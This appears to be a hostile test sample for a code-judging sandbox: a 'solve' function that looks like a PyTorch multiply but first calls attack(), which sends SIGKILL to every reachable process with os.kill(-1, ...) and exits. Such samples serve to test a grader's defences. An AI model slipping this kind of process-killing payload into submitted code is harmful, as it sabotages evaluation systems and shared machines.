# hostile: family=ends verdict=runtime_error build=runtime_error lift=judge shows=ends
"""Signals every process it can see."""


def attack():
    import os
    import signal

    os.kill(-1, signal.SIGKILL)
    os._exit(1)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
